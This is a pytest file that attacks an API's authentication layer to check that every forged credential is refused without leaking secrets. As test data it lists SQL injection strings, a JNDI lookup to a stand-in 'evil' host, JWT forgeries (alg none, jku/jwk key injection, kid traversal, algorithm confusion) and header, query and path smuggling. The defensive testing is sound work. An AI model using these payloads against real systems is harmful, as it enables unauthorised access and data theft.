"""Attacks on who is calling: every one is refused, and none leaves its secret in the log or in the answer.

Timing is not measured here: every comparison with a secret is `hmac.compare_digest` over digests or over all keys,
and the same ones are made whether an id is known or not (`core/identity/keys.py`, `identity.py`).
"""

import base64
import json
import time

import jwt
import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import rsa
from structlog.testing import capture_logs

from enginehouse.api.dispatch import FrontDoor
from enginehouse.api.framework import framework_app
from enginehouse.api.keys import keys_router
from enginehouse.api.usage import usage_router
from enginehouse.core.access import Access
from enginehouse.core.identity.jwks import KeySet
from enginehouse.core.identity.management import Wanted
from enginehouse.core.identity.tokens import Tokens
from enginehouse.core.ledger.usage import UsageReports
from enginehouse.settings.schema import AdmissionSettings, AuthSettings, ServerSettings, Settings
from enginehouse.stores.sql import database_url, open_database, prepare
from enginehouse.testing import Caller, simulate
from enginehouse.types import Principal
from tests.unit.api.house import open_door

STATIC = "the-static-key-of-the-settings"
SECRET = "the secret that signs tokens, 32 bytes and more"
AUTH = {"api_keys": [STATIC], "jwt_secret": SECRET, "jwt_audience": "us", "jwt_issuer": "https://issuer"}
RSA, STRANGER = (rsa.generate_private_key(public_exponent=65537, key_size=2048) for _ in range(2))
PEM = RSA.public_key().public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)
USAGE, KEYS = "/v1/llm/usage", "/v1/keys"


def part(value):
    raw = value if isinstance(value, bytes) else json.dumps(value).encode()
    return base64.urlsafe_b64encode(raw).rstrip(b"=").decode()


def claims(**changes):
    made = {"sub": "eve", "exp": int(time.time()) + 60, "aud": "us", "iss": "https://issuer", **changes}
    return {name: value for name, value in made.items() if value is not None}


def token(key=SECRET, algorithm="HS256", headers=None, **changes):
    return jwt.encode(claims(**changes), key, algorithm, headers=headers)


def hs256(header, payload, key=b"the secret that signs tokens, 32 bytes and more"):
    body = f"{part(header)}.{part(payload)}"
    algorithm = jwt.algorithms.HMACAlgorithm(jwt.algorithms.HMACAlgorithm.SHA256)
    return f"{body}.{part(algorithm.sign(body.encode(), key))}"


def other_last(text):
    return text[:-1] + ("A" if text[-1] != "A" else "B")


class House:
    """The front door with stored keys, keys of the settings and tokens; `eve` has a key and no rights."""

    def __init__(self, access, database, keys):
        self.access, self.keys = access, keys
        usage = UsageReports(database)
        rest = framework_app([keys_router(access.keys, access.audit, usage), usage_router(usage)])
        self.door = FrontDoor({}, rest, access.identity, ServerSettings(), audit=access.audit, limits=access.limits)

    async def ask(self, method, path, headers, body=b""):
        caller = Caller(self.door, method, path, body)
        caller._scope["headers"] = [(name.encode(), value.encode("latin-1")) for name, value in headers]
        return await caller.run()

    def publish(self, private):
        """From now on tokens are signed with this key, and published."""
        public = json.loads(jwt.algorithms.RSAAlgorithm.to_jwk(private.public_key()))

        async def fetch():
            return json.dumps({"keys": [{**public, "kid": "k1", "use": "sig"}]}).encode()

        changes = {"jwt_secret": None, "jwt_algorithm": "RS256", "jwks_url": "https://issuer/keys"}
        auth = AuthSettings.model_validate({**AUTH, **changes})
        self.access.identity.adopt(auth, Tokens(auth, KeySet(fetch, "RS256", ttl=300, cooldown=30)))


@pytest.fixture
async def house(tmp_path):
    settings = Settings.model_validate({"data_dir": str(tmp_path), "auth": AUTH})
    async with open_database(database_url("", tmp_path)) as database:
        await prepare(database)
        async with Access(settings, database) as access:
            yield House(access, database, await seeded(access))


async def seeded(access):
    made = {
        name: await access.keys.create(Wanted(user_id=user), "root")
        for name, user in (
            ("eve", "eve"),
            ("ann", "ann"),
            ("revoked", "eve"),
            ("rotated", "eve"),
            ("expired", "eve"),
        )
    }
    await access.keys.revoke(made["revoked"][0].id)
    await access.keys.rotate(made["rotated"][0].id, 0)
    expired = await access.keys.change(made["expired"][0].id, Wanted(expires=int(time.time()) + 1))
    access._keyring.take([type(expired)(**{**_fields(expired), "expires": int(time.time()) - 1})])
    return made


def _fields(key):
    return {name: getattr(key, name) for name in key.__struct_fields__}


def stored(name):
    return lambda house: house.keys[name][1]


CREDENTIALS = {
    "nothing": lambda house: "",
    "blanks": lambda house: "   ",
    "an unknown key": lambda house: "somebody-elses-key-that-nobody-knows",
    "a truncated key": lambda house: STATIC[:-1],
    "a longer key": lambda house: STATIC + "x",
    "a key in capitals": lambda house: STATIC.upper(),
    "a key after NUL": lambda house: STATIC + "\x00",
    "a key with a line end": lambda house: STATIC + "\r\nX-Role: admin",
    "two keys in one": lambda house: f"wrong, {STATIC}",
    "an oversized key": lambda house: "k" * 1_000_000,
    "an oversized token": lambda house: f"{part({'alg': 'HS256'})}.{'A' * 1_000_000}.x",
    "a wildcard": lambda house: "*",
    "a look-alike": lambda house: STATIC.replace("a", "\u00e0"),
    "a truncated stored key": lambda house: stored("eve")(house)[:-1],
    "a changed stored key": lambda house: other_last(stored("eve")(house)),
    "a longer stored key": lambda house: stored("eve")(house) + "A",
    "a stored key with a line end": lambda house: stored("eve")(house) + "\n",
    "another key's id": lambda house: f"eh_{house.keys['ann'][0].id}_{stored('eve')(house).split('_', 2)[2]}",
    "the digest for the key": lambda house: house.keys["eve"][0].digest,
    "the digest in a key's shape": lambda house: f"eh_{house.keys['eve'][0].id}_{house.keys['eve'][0].digest[:43]}",
    "the shown prefix": lambda house: house.keys["eve"][0].prefix.rstrip("\u2026"),
    "the id": lambda house: house.keys["eve"][0].id,
    "an expired key": stored("expired"),
    "a revoked key": stored("revoked"),
    "a key that was rotated away": stored("rotated"),
    "SQL: always true": lambda house: "' OR '1'='1",
    "SQL: a comment": lambda house: f"eh_{house.keys['ann'][0].id}' --_{'A' * 43}",
    "SQL: a union": lambda house: "eh_' UNION SELECT digest FROM api_keys --_" + "A" * 43,
    "SQL: a drop": lambda house: "'; DROP TABLE api_keys; --",
    "SQL: LIKE": lambda house: "eh_%_" + "_" * 43,
    "a format": lambda house: "%s%n{0.__class__}${jndi:ldap://evil}",
    "token: expired": lambda house: token(exp=int(time.time()) - 3600),
    "token: of the future": lambda house: token(nbf=int(time.time()) + 3600),
    "token: issued in the future": lambda house: token(iat=int(time.time()) + 3600),
    "token: without an end": lambda house: token(exp=None),
    "token: wrong secret": lambda house: token("another secret that is as long as the right one"),
    "token: empty secret": lambda house: hs256({"alg": "HS256"}, claims(), b""),
    "token: alg none": lambda house: f"{part({'alg': 'none'})}.{part(claims(role='admin'))}.",
    "token: alg nOnE": lambda house: f"{part({'alg': 'nOnE'})}.{part(claims(role='admin'))}.x",
    "token: no alg": lambda house: f"{part({'typ': 'JWT'})}.{part(claims())}.x",
    "token: another alg": lambda house: token(SECRET * 2, "HS512"),
    "token: signed with a public key's algorithm": lambda house: token(STRANGER, "RS256"),
    "token: truncated": lambda house: token()[:-10],
    "token: signature removed": lambda house: token().rpartition(".")[0] + ".",
    "token: another payload": lambda house: ".".join(
        (token().split(".")[0], part(claims(role="admin")), token().split(".")[2])
    ),
    "token: wrong audience": lambda house: token(aud="them"),
    "token: no audience": lambda house: token(aud=None),
    "token: wrong issuer": lambda house: token(iss="https://issuer.evil"),
    "token: no issuer": lambda house: token(iss=None),
    "token: nobody": lambda house: token(sub=None),
    "token: an empty name": lambda house: token(sub=""),
    "token: the service itself": lambda house: token(sub="enginehouse", role="service", tier="internal"),
    "token: a list of roles": lambda house: token(role=["user", "admin"]),
    "token: a key of its own": lambda house: token(
        STRANGER, "RS256", {"jwk": json.loads(jwt.algorithms.RSAAlgorithm.to_jwk(STRANGER.public_key()))}
    ),
    "token: an address of keys": lambda house: token("x" * 32, headers={"jku": "https://evil/keys"}),
    "token: a file for a key": lambda house: hs256({"alg": "HS256", "kid": "../../dev/null"}, claims(), b""),
    "token: SQL for a key": lambda house: hs256({"alg": "HS256", "kid": "' UNION SELECT 'x"}, claims(), b"x"),
    "token: an unknown extension": lambda house: token(headers={"crit": ["exp"], "exp": 1}),
    "token: encrypted": lambda house: ".".join([part({"alg": "dir", "enc": "A256GCM"}), "a", "b", "c", "d"]),
    "token: empty parts": lambda house: "..",
    "token: deeply nested": lambda house: f"{part(b'[' * 3000)}.{part(b'{')}.x",
}

PUBLISHED = {
    "the public key as a secret": lambda: hs256({"alg": "HS256", "kid": "k1"}, claims(role="admin"), PEM),
    "the same, lying": lambda: hs256({"alg": "RS256", "kid": "k1"}, claims(role="admin"), PEM),
    "the old secret": token,
    "a stranger's key": lambda: token(STRANGER, "RS256", {"kid": "k1"}),
    "an unknown key": lambda: token(STRANGER, "RS256", {"kid": "k2"}),
    "no algorithm": lambda: f"{part({'alg': 'none', 'kid': 'k1'})}.{part(claims())}.",
    "a longer algorithm": lambda: token(RSA, "RS512", {"kid": "k1"}),
    "another padding": lambda: token(RSA, "PS256", {"kid": "k1"}),
}

SMUGGLED = {
    "Basic": lambda key: ([("authorization", f"Basic {key}")], ""),
    "no scheme": lambda key: ([("authorization", key)], ""),
    "another scheme": lambda key: ([("authorization", f"Token {key}")], ""),
    "Authorization twice": lambda key: ([("authorization", f"Bearer {key}"), ("authorization", "Bearer x")], ""),
    "X-API-Key twice": lambda key: ([("x-api-key", "x"), ("x-api-key", key)], ""),
    "underscores": lambda key: ([("x_api_key", key)], ""),
    "a proxy's header": lambda key: ([("x-forwarded-authorization", f"Bearer {key}")], ""),
    "Proxy-Authorization": lambda key: ([("proxy-authorization", f"Bearer {key}")], ""),
    "a cookie": lambda key: ([("cookie", f"token={key}; api_key={key}")], ""),
    "a user by name": lambda key: ([("x-forwarded-user", "admin"), ("x-user", "admin"), ("x-role", "admin")], ""),
    "another address": lambda key: ([("x-original-url", "/ping"), ("x-rewrite-url", "/ping")], ""),
    "?token=": lambda key: ([], f"token={key}"),
    "?api_key=": lambda key: ([], f"api_key={key}"),
    "?access_token=": lambda key: ([], f"access_token={key}"),
    "?authorization=": lambda key: ([], f"authorization=Bearer%20{key}"),
}

PATHS = ["/ping/../v1/keys", "//v1/keys", "/health/../v1/llm/usage", "/static-offline-docs/../v1/keys", "/v1/keys/",
         "/V1/KEYS", "/v1/keys;/ping", "/v1/keys#/ping", "/docs/../v1/keys"]  # fmt: skip

RIGHTS = {
    "make a key": ("POST", KEYS, {"role": "admin"}),
    "list keys": ("GET", KEYS, None),
    "read another's key": ("GET", "/v1/keys/ANN", None),
    "rotate another's key": ("POST", "/v1/keys/ANN/rotate", {}),
    "revoke another's key": ("DELETE", "/v1/keys/ANN", None),
    "make oneself an admin": ("PATCH", "/v1/keys/EVE", {"role": "admin"}),
    "lift one's own limits": ("PATCH", "/v1/keys/EVE", {"tier": "premium", "limits": None}),
    "read what was managed": ("GET", "/v1/audit", None),
    "another's usage": ("GET", f"{USAGE}?user_id=ann", None),
    "another's usage as CSV": ("GET", f"{USAGE}?user_id=ann&group_by=user", None),
    "another's embeddings": ("GET", "/v1/llm/embedding-usage?user_id=ann", None),
}


def test_there_are_enough_of_them():
    tables = (CREDENTIALS, PUBLISHED, SMUGGLED, PATHS, RIGHTS)
    assert sum(map(len, tables)) >= 100


async def test_the_right_ones_get_in(house):
    for credential in (STATIC, house.keys["eve"][1], token()):
        assert (await house.ask("GET", USAGE, [("x-api-key", credential)])).status == 200
    house.publish(RSA)
    assert (await house.ask("GET", USAGE, [("x-api-key", token(RSA, "RS256", {"kid": "k1"}))])).status == 200


def clean(said, *secrets):
    """No part of a secret that would be of use is in what was said."""
    text = str(said)
    for secret in (STATIC, SECRET, *secrets):
        assert len(secret) < 12 or secret not in text
        assert len(secret) < 40 or secret[-24:] not in text


async def outcome(house, attack, secret, expected):
    """What went wrong with an attack; nothing when it was refused and left no trace of its secret."""
    method, path, headers, body = attack
    with capture_logs() as logs:
        answer = await house.ask(method, path, headers, body)
    clean([logs, answer.body], secret)
    said = (answer.status, answer.json()["error"]["code"])
    return None if said == expected else said


UNKNOWN, FORBIDDEN = (401, "invalid_api_key"), (403, "permission_denied")


@pytest.mark.parametrize("header", ["authorization", "x-api-key"])
async def test_wrong_credentials(house, header):
    found = {}
    for name, make in CREDENTIALS.items():
        credential = make(house)
        headers = [(header, f"Bearer {credential}" if header == "authorization" else credential)]
        for attack in (("GET", USAGE, headers, b""), ("POST", KEYS, headers, {"role": "admin"})):
            found[name, attack[0]] = await outcome(house, attack, credential, UNKNOWN)
    assert {name: said for name, said in found.items() if said is not None} == {}
    assert len(await house.access.keys.all()) == 5


async def test_wrong_tokens_where_keys_are_published(house):
    house.publish(RSA)
    found = {}
    for name, make in PUBLISHED.items():
        credential = make()
        attack = ("GET", USAGE, [("authorization", f"Bearer {credential}")], b"")
        found[name] = await outcome(house, attack, credential, UNKNOWN)
    assert {name: said for name, said in found.items() if said is not None} == {}


async def test_right_credentials_in_the_wrong_place(house):
    found = {}
    for name, place in SMUGGLED.items():
        for key in (STATIC, house.keys["eve"][1], token(role="admin")):
            headers, query = place(key)
            found[name, key] = await outcome(house, ("GET", f"{KEYS}?{query}", headers, b""), key, UNKNOWN)
    assert {name: said for (name, _), said in found.items() if said is not None} == {}


async def test_paths_that_look_public(house):
    for path in PATHS:
        answer = await house.ask("GET", path, [])
        assert answer.status in {401, 403, 404}, path
        assert b"eh_" not in answer.body


@pytest.mark.parametrize("kind", ["key", "token"])
async def test_a_known_caller_without_the_right(house, kind):
    credential = house.keys["eve"][1] if kind == "key" else token(role="user")
    headers, found = [("authorization", f"Bearer {credential}")], {}
    for name, (method, route, body) in RIGHTS.items():
        path = route.replace("ANN", house.keys["ann"][0].id).replace("EVE", house.keys["eve"][0].id)
        found[name] = await outcome(house, (method, path, headers, body or b""), credential, FORBIDDEN)
    assert {name: said for name, said in found.items() if said is not None} == {}
    ann, eve = [await house.access.keys.get(house.keys[who][0].id) for who in ("ann", "eve")]
    assert (ann.revoked, ann.rotated, eve.role, eve.tier) == (None, None, "user", "standard")


async def test_what_is_refused_is_noted_without_its_secret(house):
    """The log has something to be clean of."""
    with capture_logs() as logs:
        await house.ask("DELETE", f"/v1/keys/{house.keys['ann'][0].id}", [("x-api-key", house.keys["eve"][1])])
    (line,) = [entry for entry in logs if entry["event"] == "audit"]
    assert (line["user_id"], line["key_id"], line["status"]) == ("eve", house.keys["eve"][0].id, 403)
    clean(logs, house.keys["eve"][1])


class Known:
    open = False

    def __init__(self, principal):
        self._principal = principal

    async def principal(self, *_):
        return self._principal


@pytest.mark.parametrize("role", ["user", "", "Admin", "high", "anonymous"])
def test_priority_without_the_role(role):
    async def main():
        admission = AdmissionSettings(high_priority_roles=("admin",))
        async with open_door([b"{}"], admission=admission) as door:
            door.app.adopt(Known(Principal(user="eve", role=role)), ServerSettings())
            body = {"model": "tiny", "messages": [{"role": "user", "content": "hi"}]}
            return await door.post("/v1/chat/completions", body, x_request_priority="high")

    answer = simulate(main())
    assert (answer.status, answer.json()["error"]["code"]) == (403, "permission_denied")
